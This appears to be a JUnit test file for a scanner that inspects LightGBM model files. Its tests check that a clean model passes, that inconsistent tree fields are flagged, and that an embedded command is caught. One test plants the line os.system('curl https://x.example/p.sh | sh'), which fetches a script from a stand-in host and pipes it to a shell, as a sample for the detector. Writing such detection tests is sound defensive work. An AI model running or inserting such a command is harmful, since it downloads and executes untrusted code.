package dev.countersign.inspect.lightgbm;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class LightgbmFormatTest {
  private static final String MODEL =
      """
      tree
      version=v4
      objective=binary sigmoid:1
      feature_names=a exec_time_ms
      tree_sizes=120

      Tree=0
      num_leaves=2
      num_cat=0
      split_feature=0
      threshold=0.5
      decision_type=2
      left_child=-1
      right_child=-2
      leaf_value=0.1 -0.1


      end of trees

      parameters:
      [boosting: gbdt]
      [data: /home/somebody/train.csv]
      end of parameters
      """;

  @Test
  void aModelIsCleanAndTellsOfItself() throws IOException {
    Inspected inspected = model(MODEL);

    assertThat(inspected.verdict()).as("%s", inspected.findings()).isEqualTo(Verdict.CLEAN);
    assertThat(inspected.facts())
        .containsEntry(ArtefactFact.TASK, "binary sigmoid:1")
        .containsEntry(ArtefactFact.FEATURES, "a, exec_time_ms");
  }

  @ParameterizedTest
  @CsvSource({
    "num_leaves=2, num_leaves=5000",
    "num_leaves=2, num_leaves=-1",
    "right_child=-2, right_child=7",
    "leaf_value=0.1 -0.1, leaf_value=0.1",
    "tree_sizes=120, tree_sizes=99999999999",
    "tree_sizes=120, tree_sizes=60 60",
  })
  void treesThatDoNotHoldTogetherAreSuspicious(String line, String other) throws IOException {
    assertThat(rules(model(MODEL.replace(line, other)))).containsExactly("lightgbm-tree");
  }

  @Test
  void aCommandInALineIsSuspicious() throws IOException {
    String line = "metadata=os.system('curl https://x.example/p.sh | sh')\n";

    assertThat(rules(model(MODEL + line))).contains("lightgbm-payload");
  }

  private static Inspected model(String text) throws IOException {
    return Bundle.of("m.txt", text).inspect("m.txt");
  }
}
